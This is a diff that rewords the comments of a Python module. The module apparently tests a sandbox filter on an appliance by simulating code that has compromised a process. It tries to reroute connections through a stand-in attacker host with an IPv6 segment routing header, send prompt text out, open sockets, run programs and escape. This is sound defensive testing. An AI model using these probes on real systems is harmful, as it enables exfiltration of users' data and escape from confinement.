@@ -1,5 +1,6 @@
-"""What code does that has broken into a process of the appliance: it looks for connections among its descriptors, and
-tries to get a byte to its own host, to see the network, to run a program and to free itself. It knows of no filter.
+"""What code does after it has broken into a process of the appliance. It looks for connections among the process's
+descriptors, and tries to get a byte to its own host, to see the network, to run a program and to free itself. It knows
+of no filter.
 """
 
 from __future__ import annotations
@@ -15,7 +16,7 @@ from collections.abc import Callable
 ATTACKER = "fd00:bad::1"  # in no network of the machine: behind its default route
 GROUP4, GROUP6, SOURCE4 = "239.77.77.77", "ff15::7777:7777", "192.0.2.77"
 TEXT = b"THE PROMPT OF SOMEBODY"
-_INTERFACE, _LINK = b"quiet0\0", 3  # of the test's network, where lo is 1 and the other end of the link 2
+_INTERFACE, _LINK = b"quiet0\0", 3  # in the test's network, where lo is 1 and the other end of the link is 2
 _libc = ctypes.CDLL(None, use_errno=True)
 _libc.syscall.restype = ctypes.c_long
 
@@ -23,7 +24,7 @@ Outcomes = dict[str, str]
 
 
 def call(number: int, *arguments: int | bytes | None) -> int:
-    """One x86_64 system call."""
+    """Make one x86_64 system call."""
     values = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
     answer = int(_libc.syscall(ctypes.c_long(number), *values))
     if answer < 0:
@@ -43,7 +44,7 @@ def connections() -> list[socket.socket]:
 
 
 def re_route(connection: socket.socket) -> None:
-    """A segment routing header (type 4): what is sent goes to the attacker's host first."""
+    """A segment routing header (type 4): packets go to the attacker's host first."""
     segments = b"\0" * 16 + socket.inet_pton(socket.AF_INET6, ATTACKER)
     header = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + segments
     connection.setsockopt(socket.IPPROTO_IPV6, 57, header)
@@ -60,8 +61,8 @@ def _group6(address: str) -> bytes:
 
 
 def tries_on(connection: socket.socket) -> dict[str, Callable[[], object]]:
-    """What a connection that somebody else opened can be told to do."""
-    link = _LINK  # its number must be known: asking for it would be refused
+    """What an attacker can do to a connection that somebody else opened."""
+    link = _LINK  # a number that the filter knows: asking for it would be refused
     index = struct.pack("=I4x", link)
     option, ip, ip6, tcp, sol = (
         connection.setsockopt, socket.IPPROTO_IP, socket.IPPROTO_IPV6, socket.IPPROTO_TCP, socket.SOL_SOCKET,
@@ -90,7 +91,7 @@ def tries_on(connection: socket.socket) -> dict[str, Callable[[], object]]:
 
 
 def tries() -> dict[str, Callable[[], object]]:
-    """What needs no connection."""
+    """What the attacker can do without a connection."""
     inet, stream = socket.AF_INET, socket.SOCK_STREAM
     return {
         "socket": lambda: socket.socket(inet, stream).close(),
@@ -117,7 +118,7 @@ def tries() -> dict[str, Callable[[], object]]:
 
 
 def attack(connection: socket.socket | None) -> Outcomes:
-    """Everything; what became of each: an errno's name, or OPEN."""
+    """Try everything. Maps each attempt to the name of its errno, or to OPEN."""
     everything = ({} if connection is None else tries_on(connection)) | tries()
     outcomes: Outcomes = {}
     for name, attempt in everything.items():
